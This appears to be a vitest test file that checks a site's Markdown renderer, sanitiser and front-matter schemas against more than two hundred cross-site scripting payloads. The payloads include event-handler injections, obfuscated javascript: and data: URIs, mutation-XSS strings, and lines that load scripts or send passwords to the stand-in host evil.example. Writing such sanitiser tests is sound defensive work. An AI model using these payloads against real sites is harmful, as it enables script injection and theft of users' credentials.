import { JSDOM } from 'jsdom';
import { expect, test } from 'vitest';
import { forbiddenIn, isAddress, sanitised } from '../../../src/content-model/document/sanitise.ts';
import { DOCUMENT_SCHEMAS } from '../../../src/content-model/document/schemas.ts';
import { rendered } from '../../../src/server/document/render.ts';

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'ONERROR',
  'onscrollend',
];
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video',
  'audio',
  'marquee',
  'a href="#"',
  'p',
  'math',
];
const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'javascript&colon;alert(1)',
  'jav&Tab;ascript:alert(1)',
  'livescript:alert(1)',
  'file:///etc/passwd',
  'blob:https://x/y',
  'view-source:javascript:1',
  '//evil.example/x',
  '/\\evil.example',
  '\\\\evil.example',
];

/** By families, after the lists that are published of such attacks. */
const CASES: readonly string[] = [
  ...EVENTS.flatMap((event) => ELEMENTS.map((element) => `<${element} ${event}=alert(1)>`)),
  ...SCHEMES.flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `<a href="${address}">x</a>`,
    `<iframe src="${address}"></iframe>`,
  ]),
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script/src=data:,alert(1)>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script\n>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<frameset onload=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type=image src=x onerror=alert(1)>',
  '<isindex action=javascript:alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element onclick=alert(1)>',
  '<a href=x onclick=alert(1)//',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<dialog open onclose=alert(1)>',
  '<portal src="https://evil.example">',
  '<slot onslotchange=alert(1)>',
  '<a ping="https://evil.example" href="/x">x</a>',
  '<img srcset="https://evil.example/x 1x">',
  '<img src=https://evil.example/x.gif referrerpolicy=unsafe-url>',
  '<video poster=javascript:alert(1)>',
  '<source onerror=alert(1)>',
  '<track onerror=alert(1)>',
  '<bgsound src="javascript:alert(1)">',
  '<layer src="x">',
  '<a target=_blank href="https://x.example">x</a>',
  '<p id="main">x</p>',
  '<p class="btn">x</p>',
  '<p data-live-part="x">x</p>',
  '<markdown-toolbar onclick=alert(1)>',
  '<astro-island component-url="data:,alert(1)">',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x][y]\n\n[y]: <javascript:alert(1)>',
  '<javascript:alert(1)>',
  '[a](javascript:alert(1)"title")',
  '[![x](data:text/html,x)](javascript:alert(1))',
  '[x](javascript://%0aalert(1))',
  '`<b>`<script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '| a |\n| - |\n| <svg onload=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '## <script>alert(1)</script>',
  '<https://x.example/"onmouseover="alert(1)>',
  '![" onerror="alert(1)](x)',
  '[x](/a "\\" onclick=\\"alert(1)")',
  '<div\n\nonclick=alert(1)>\n\n</div>',
  '~~<script>~~alert(1)~~</script>~~',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '- [ ] <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '```html\n<script>alert(1)</script>\n```',
];

test('there are more than two hundred cases, and nothing in any of them runs or leads away', async () => {
  const { document } = new JSDOM('').window;
  expect(CASES.length).toBeGreaterThan(200);
  for (const attack of CASES) {
    const { html } = await rendered(`---\ntitle: x\n---\n\n## Text\n\n${attack}\n`);
    document.body.innerHTML = `<main>${sanitised(html)}</main>`;
    // It stays in its place, too.
    expect(document.body.children, attack).toHaveLength(1);
    for (const element of document.querySelectorAll('main *')) {
      const name = element.localName;
      expect(
        [
          'script',
          'style',
          'iframe',
          'svg',
          'math',
          'object',
          'embed',
          'form',
          'input',
          'base',
          'link',
          'meta',
        ],
        attack,
      ).not.toContain(name);
      expect(name, attack).toMatch(/^[a-z0-9]+$/);
      for (const { name: attribute, value } of element.attributes) {
        expect(attribute, attack).not.toMatch(/^on|^style$|^srcdoc$|^formaction$|^ping$|^xlink/i);
        if (attribute === 'href' || attribute === 'src')
          expect(value, attack).toMatch(/^(https?:\/\/|mailto:|tel:|#|\/(?![/\\]))/);
      }
    }
  }
});

test('whoever publishes is told what a page can’t have', async () => {
  const { html } = await rendered('---\n---\n\n## A\n\n<script>x</script>\n\n[y](javascript:alert(1))\n');
  expect(forbiddenIn(html)).toEqual(['<script>', 'the address javascript:alert(1)']);
  expect(isAddress('/faq')).toBe(true);
  for (const address of ['//x.example', '/\\x', 'javascript:1', ' /x', 'x', ''])
    expect(isAddress(address), address).toBe(false);
});

test('no field of a front matter takes an address that leads away or runs', () => {
  const source = (url: string) => ({
    claim: 'A claim long enough',
    says: ['x'],
    source: { name: 'Somebody', kind: 'press', url },
  });
  const errorsOf = (own: object) =>
    (DOCUMENT_SCHEMAS.pages.safeParse(own).error?.issues ?? []).map(({ path }) => path.join('.'));
  for (const url of ['javascript:alert(1)', 'data:text/html,x', 'ftp://x.example'])
    expect(errorsOf({ facts: [source(url)] }), url).toContain('facts.0.source.url');
  for (const href of ['//evil.example', '/\\evil.example', 'javascript:alert(1)', '/x\njavascript:']) {
    expect(errorsOf({ related: [{ text: 'Text', href }] }), href).toContain('related.0.href');
    expect(errorsOf({ action: { href } }), href).toContain('action.href');
  }
});
